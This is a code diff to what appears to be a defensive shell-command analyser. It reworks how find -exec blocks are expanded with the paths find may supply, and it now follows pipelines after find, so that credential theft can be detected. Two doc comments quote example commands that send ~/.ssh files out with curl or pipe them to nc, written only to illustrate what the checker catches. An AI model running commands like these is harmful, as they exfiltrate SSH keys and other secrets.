@@ -5,7 +5,9 @@ import type { CommandView } from "../command.js";
 import { inheritFrom, type Inherit, type Nest, type Origin, type Quiet, type UnwrapCommand, type UnwrapResult, type Unwrapper } from "./types.js";
 import { DYNAMIC_WORD } from "./words.js";
 import { valuesQuiet } from "./value-uses.js";
-import { globText, literalText } from "./strings.js";
+import { literalText } from "./strings.js";
+import { foundPaths, foundQuiet } from "./found-files.js";
+import { stagesOf } from "./pipelines.js";
 
 export const execBlockUnwrapper: Unwrapper = {
   name: "exec-block",
@@ -39,7 +41,7 @@ function execBlocks(view: CommandView, sc: SimpleCommand, facts: Facts, origin: 
     if (inner.length > 0) {
       const execOrigin: Origin = { ...origin, ...inheritFrom(view), argsUnknown: true, wrappers: [...view.wrappers, view.name] };
       unwrapCommand({ ...sc, argv: inner, redirects: [] }, inner, facts, execOrigin, out, nest);
-      if (isFind && attached === "" && inner !== words) withFoundFiles(view, words, facts, { ...execOrigin, argsUnknown: false, speculative: foundQuiet }, nest, origin.range ?? [sc.start, sc.end]);
+      if (isFind && attached === "" && inner !== words) withFoundFiles(sc, view, words, facts, { ...execOrigin, argsUnknown: false }, nest, origin.range ?? [sc.start, sc.end]);
     }
     k = end;
   }
@@ -54,35 +56,19 @@ function fdExecAttached(a: string): string | null {
   return m === null ? null : (m[1] ?? m[2] ?? "");
 }
 
-/** Start directories parsed again with their files in place of {} (at most this many). */
-const MAX_ROOTS = 4;
-const HOME_ROOT = /^(?:~[\w.-]*|"?\$\{?HOME\}?"?|\/home\/[^/]+|\/Users\/[^/]+|\/root)\/?$/;
-const FIND_OPTIONS = /^-(?:[HLP]|O\d*|D)$/;
 /** The find check judges deletes by their start directories and tests; a file put for {} is a guess about which. */
-const foundQuiet: Quiet = (id) => valuesQuiet(id) || id.startsWith("deletion/");
+const foundFilesQuiet: Quiet = (id) => valuesQuiet(id) || id.startsWith("deletion/");
 
 /**
- * `find ~/.ssh -exec curl -F f=@{} URL ;`: the block is also parsed with the files find may hand
- * it written in, `ROOT/PATTERN` for each start directory (PATTERN: the one -name test, else *),
- * so what it does to them is judged like the same command on those files (a secret sent, an rc
- * file overwritten).
+ * `find ~/.ssh -exec curl -F f=@{} URL ;`: the block is also parsed with each path find may hand
+ * it written in (found-files.ts), so what it does to them is judged like the same command on
+ * those files (a secret sent, an rc file overwritten). A pipeline after find reads the block's
+ * output (`find ~/.ssh -exec cat {} + | nc h 1`): it comes along.
  */
-function withFoundFiles(view: CommandView, block: readonly Word[], facts: Facts, inherit: Inherit, nest: Nest, range: [number, number]): void {
-  const w = view.words;
-  let k = 1;
-  while (k < w.length && FIND_OPTIONS.test((w[k] as Word).value)) k += (w[k] as Word).value === "-D" ? 2 : 1;
-  const roots: string[] = [];
-  for (; k < w.length && !/^[-(!]/.test((w[k] as Word).value); k++) roots.push(facts.source.slice((w[k] as Word).start, (w[k] as Word).end));
-  if (roots.length === 0) roots.push(".");
-  const tests = view.args.filter((a) => a === "-name" || a === "-iname" || a === "-o" || a === "-or");
-  const at = view.args.findIndex((a) => a === "-name" || a === "-iname");
-  const named = tests.length === 1 && at > 0 ? view.args[at + 1] : undefined;
-  for (const root of roots.slice(0, MAX_ROOTS)) {
-    // find walks dotfiles too: in a home directory (its rc files), without a name test, `.*` as well.
-    const patterns = named !== undefined ? [globText(named)] : HOME_ROOT.test(root) ? ["*", ".*"] : ["*"];
-    for (const pattern of patterns) {
-      const put = `${root.replace(/\/+$/, "")}/${pattern}`;
-      nest(block.map((x) => (x.value.includes("{}") ? x.value.split("{}").map(literalText).join(put) : facts.source.slice(x.start, x.end))).join(" "), range, inherit);
-    }
+function withFoundFiles(sc: SimpleCommand, view: CommandView, block: readonly Word[], facts: Facts, inherit: Inherit, nest: Nest, range: [number, number]): void {
+  const after = sc.stage >= 0 ? stagesOf(facts, sc.pipeline).filter((c) => c.stage > sc.stage).map((c) => ` | ${facts.source.slice(c.start, c.end)}`).join("") : "";
+  for (const path of foundPaths(view.words, facts)) {
+    const text = block.map((x) => (x.value.includes("{}") ? x.value.split("{}").map(literalText).join(path.text) : facts.source.slice(x.start, x.end))).join(" ");
+    nest(text + after, range, { ...inherit, speculative: foundQuiet(foundFilesQuiet, path) });
   }
 }
